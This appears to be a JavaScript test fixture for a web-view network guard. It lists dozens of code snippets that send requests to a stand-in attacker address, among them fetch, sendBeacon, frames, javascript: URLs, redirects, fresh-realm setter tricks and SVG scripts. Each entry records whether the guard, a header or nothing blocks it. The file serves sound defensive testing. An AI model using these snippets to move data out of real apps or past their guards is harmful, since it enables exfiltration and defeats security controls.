// @ts-check
/**
 * Evil calls that need no framework: the network, the frames and the windows of the page that the app runs in. `by` says what
 * stops one: the guard, the header that goes with it, or neither, with the reason. Each is code with `EVIL`, an address of its own.
 */

/**
 * `alone`: in a page of its own. `call`: a function of the app, else `code` is run.
 * @typedef {{ by: "guard" | "header" | "nothing", code?: string, call?: string, alone?: boolean, why?: string, fails?: boolean }} Evil
 */

/** @param {string} call @returns {Evil} a call of the app, whose own `fail`, `catch` or `onError` hears of it */
export const told = (call) => ({ by: "guard", call, fails: true });

const frame = (/** @type {string} */ code) => `const f = document.createElement("iframe"); document.body.append(f); ${code}`;
const NAMED = `const f = document.createElement("iframe"); f.name = "named"; document.body.append(f); `;
const SHOWN = "no list governs images, fonts, media and style sheets, and honest apps load them from anywhere: your own ";
const IMAGES = SHOWN + "`img-src`, `font-src`, `media-src`, `style-src`";
/** Of a framework's calls that only show or play. */
export const MEDIA = SHOWN + "`img-src`, `media-src`";
const SCRIPTS = "the guard sees a script's `src`, not the parser and not syntax: your own `script-src`";
const LEAVING = "no directive governs a page that leaves or opens another: a sandboxed frame around the app, or the container's navigation delegate";
const INSIDE = "what a listed page does obeys that page's own headers: list only pages you trust, or ask `checkWebView` in the navigation delegate";

/** @type {Record<string, Evil>} */
export const PLATFORM = {
  "fetch": { by: "guard", code: "fetch(EVIL).catch(() => {})" },
  "fetch of a Request": { by: "guard", code: "fetch(new Request(EVIL, { mode: 'no-cors' })).catch(() => {})" },
  "XMLHttpRequest": { by: "guard", code: "const x = new XMLHttpRequest(); x.open('GET', EVIL); x.send()" },
  "XMLHttpRequest with credentials in the address": { by: "guard", code: "const x = new XMLHttpRequest(); x.open('GET', EVIL.replace('https://', 'https://api.good.test@')); x.send()" },
  "a subclass of XMLHttpRequest": { by: "guard", code: "const x = new (class extends XMLHttpRequest {})(); x.open('GET', EVIL); x.send()" },
  "WebSocket": { by: "guard", code: "new WebSocket(EVIL.replace('https', 'wss'))" },
  "EventSource": { by: "guard", code: "new EventSource(EVIL)" },
  "sendBeacon": { by: "guard", code: "navigator.sendBeacon(EVIL, 'x')" },
  "a script": { by: "guard", code: "const s = document.createElement('script'); s.src = EVIL; document.head.append(s)" },
  "a script by attribute": { by: "guard", code: "const s = document.createElement('script'); s.setAttribute('src', EVIL); document.head.append(s)" },
  "a worker from a blob": { by: "guard", code: "new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}', { mode: 'no-cors' })`])))" },
  "a worklet": { by: "guard", code: "CSS.paintWorklet.addModule(EVIL).catch(() => {})" },
  "a frame by property": { by: "guard", code: frame("f.src = EVIL") },
  "a frame by attribute": { by: "guard", code: frame("f.setAttribute('src', EVIL)") },
  "a frame by attribute with a namespace": { by: "guard", code: frame("f.setAttributeNS(null, 'src', EVIL)") },
  "a frame by attribute node": { by: "guard", code: frame("f.setAttribute('src', ''); f.attributes.src.value = EVIL") },
  "a frame's srcdoc": { by: "guard", code: frame("f.srcdoc = `<script>fetch('${EVIL}', { mode: 'no-cors' })</scr` + 'ipt>'") },
  "a javascript: frame": { by: "guard", code: frame("f.src = `javascript:fetch('${EVIL}', { mode: 'no-cors' })`") },
  "a data: frame": { by: "guard", code: frame("f.src = `data:text/html,<iframe src='${EVIL}'>`") },
  "an object": { by: "guard", code: "const o = document.createElement('object'); o.data = EVIL; document.body.append(o)" },
  "an embed": { by: "guard", code: "const o = document.createElement('embed'); o.src = EVIL; document.body.append(o)" },
  "window.open": { by: "guard", code: "window.open(EVIL)", alone: true },
  "a `<base>` under a relative call": { by: "guard", code: "const b = document.createElement('base'); b.href = EVIL; document.head.append(b); fetch(new URL(EVIL).pathname).catch(() => {})", alone: true },

  "a redirect followed by fetch": { by: "header", code: "fetch('https://api.good.test/redirect?to=' + EVIL).catch(() => {})" },
  "a redirect followed by XMLHttpRequest": { by: "header", code: "const x = new XMLHttpRequest(); x.open('GET', 'https://api.good.test/redirect?to=' + EVIL); x.send()" },
  "a redirect followed by EventSource": { by: "header", code: "new EventSource('https://api.good.test/redirect?to=' + EVIL)" },
  "a redirect followed by a frame": { by: "header", code: frame("f.src = 'https://www.good.test/redirect?to=' + EVIL") },
  "fetch of a fresh realm": { by: "header", code: frame("f.contentWindow.fetch(EVIL, { mode: 'no-cors' }).catch(() => {})") },
  "XMLHttpRequest of a fresh realm": { by: "header", code: frame("const x = new f.contentWindow.XMLHttpRequest(); x.open('GET', EVIL); x.send()") },
  "a fresh realm's setter on a frame": { by: "header", code: frame("const g = document.createElement('iframe'); Object.getOwnPropertyDescriptor(f.contentWindow.HTMLIFrameElement.prototype, 'src').set.call(g, EVIL); document.body.append(g)") },
  "a frame by innerHTML": { by: "header", code: "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<iframe src='${EVIL}'></iframe>`" },
  "a frame by a fragment": { by: "header", code: "document.body.append(document.createRange().createContextualFragment(`<iframe src='${EVIL}'></iframe>`))" },
  "a frame's location": { by: "header", code: frame("f.contentWindow.location = EVIL") },
  "a link into a named frame": { by: "header", code: NAMED + "const a = document.createElement('a'); a.target = 'named'; a.href = EVIL; document.body.append(a); a.click()", alone: true },
  "a form into a named frame": { by: "header", code: NAMED + "const m = document.createElement('form'); m.target = 'named'; m.method = 'post'; m.action = EVIL; document.body.append(m); m.submit()", alone: true },
  "a link's ping": { by: "header", code: "const a = document.createElement('a'); a.href = '#'; a.ping = EVIL; document.body.append(a); a.click()", alone: true },
  "a cache": { by: "header", code: "caches.open('x').then((cache) => cache.add(EVIL)).catch(() => {})" },

  "a script by a fragment": { by: "nothing", code: "document.head.append(document.createRange().createContextualFragment(`<script src='${EVIL}'></scr` + 'ipt>'))", why: SCRIPTS },
  "a module preload": { by: "nothing", code: "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = EVIL; document.head.append(l)", why: SCRIPTS },
  "an SVG script": { by: "nothing", code: "const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', EVIL); v.append(s); document.body.append(v)", why: SCRIPTS },
  "import()": { by: "nothing", code: "new Function('url', 'return import(url)')(EVIL).catch(() => {})", why: SCRIPTS },
  "an image": { by: "nothing", code: "new Image().src = EVIL", why: IMAGES },
  "a style sheet": { by: "nothing", code: "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = EVIL; document.head.append(l)", why: IMAGES },
  "a prefetch": { by: "nothing", code: "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = EVIL; document.head.append(l)", why: "only `default-src` governs prefetch: your own" },
  "a link to a new window": { by: "nothing", code: "const a = document.createElement('a'); a.target = '_blank'; a.href = EVIL; document.body.append(a); a.click()", alone: true, why: LEAVING },
  "a form to a new window": { by: "nothing", code: "const m = document.createElement('form'); m.target = '_blank'; m.action = EVIL; document.body.append(m); m.submit()", alone: true, why: LEAVING },
  "moving the app's own page": { by: "nothing", code: "location = EVIL", alone: true, why: LEAVING },
  "a frame inside a listed page": { by: "nothing", code: frame("f.src = 'https://www.good.test/page/nest?frame=' + EVIL"), why: INSIDE },
};
